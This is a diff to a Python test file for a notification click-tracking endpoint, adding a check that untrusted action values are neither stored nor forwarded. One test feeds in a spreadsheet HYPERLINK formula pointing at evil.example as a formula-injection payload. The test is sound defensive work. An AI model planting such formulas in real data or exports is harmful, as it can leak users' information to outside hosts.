@@ -140,13 +140,15 @@ def test_events_count_under_the_platform_of_the_browsers_user_agent_never_its_la
 
 
 def test_a_click_counts_but_an_action_the_notification_did_not_offer_is_not_stored(
-        sent: Sent) -> None:
+        sent: Sent, tracked: list[dict[str, Any]]) -> None:
     typed = '=HYPERLINK("https://evil.example/?me=Anna","Refund")'
     response = sent.post({"token": sent.token, "event": "clicked", "action": typed})
     assert response.get_json() == {"counted": True}
     delivery = sent.delivery()
     assert delivery.clicked_at is not None and delivery.action is None
     assert sent.counted() == {"displayed": 1, "clicked": 1, "closed": 0}
+    # the host's receivers are told what was kept, not the beacon's text
+    assert tracked == [{"kind": "clicked", "delivery_id": sent.delivery_id, "action": None}]
 
 
 def test_a_click_on_an_action_button_records_the_action(
